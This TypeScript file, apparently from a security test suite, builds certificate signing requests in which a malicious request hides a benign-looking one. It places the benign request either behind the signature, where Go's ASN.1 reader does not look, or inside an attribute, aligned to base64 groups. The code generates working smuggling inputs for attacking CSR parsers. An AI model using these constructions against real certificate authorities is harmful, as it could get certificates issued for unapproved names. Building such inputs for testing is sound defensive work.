import { alternativeNames, der, extensionRequest, makeCsrDer, oid, requestInfo, sequence, signInfo } from '../csr.ts';
import type { AskedKind } from './asked-kinds.ts';
import { contentOf } from './der-parts.ts';

/** DER of an evil request whose end, from an offset on, reads like a good one. The offset begins a group of base64. */
export interface Smuggled {
  evil: Uint8Array;
  offset: number;
}

/** The good request stands behind the signature of the evil one, where Go's reader of ASN.1 does not look. */
export function behindTheSignature({ good, evil }: AskedKind): Smuggled {
  const [hidden, parts] = [makeCsrDer(good), contentOf(makeCsrDer(evil))];
  for (let pad = 0; pad < 3; pad += 1) {
    const whole = sequence(parts, der(0x04, new Uint8Array(pad)), hidden);
    const offset = whole.length - hidden.length;
    if (offset % 3 === 0) return { evil: whole, offset };
  }
  throw new Error('one of three in a row is a multiple of three');
}

/**
 * The good request begins in an attribute of the evil one, and what follows there is "its signature": the true signature of the evil
 * one. It fools a reader who does not verify.
 */
export function inAnAttribute({ good, evil }: AskedKind): Smuggled {
  const ecdsa = sequence(oid('1.2.840.10045.4.3.2'));
  // The length of a signature differs from one to the next; most have 71 octets.
  const tail = ecdsa.length + 2 + 1 + 71;
  const info = requestInfo(good);
  const beginning = sequence(info, ecdsa, der(0x03, [0], new Uint8Array(tail))).subarray(0, -tail);
  for (let pad = 0; ; pad += 1) {
    const attribute = sequence(oid('1.3.6.1.4.1.57683.9'), der(0x04, new Uint8Array(pad % 3), beginning));
    const attributeList = Uint8Array.from([...extensionRequest(alternativeNames(evil)), ...attribute]);
    const whole = signInfo(requestInfo({ ...evil, attributeList }));
    const offset = whole.length - tail - beginning.length;
    if (offset % 3 === 0 && holds(whole, beginning, offset)) return { evil: whole, offset };
  }
}

function holds(whole: Uint8Array, part: Uint8Array, offset: number): boolean {
  return Buffer.from(whole)
    .subarray(offset, offset + part.length)
    .equals(part);
}
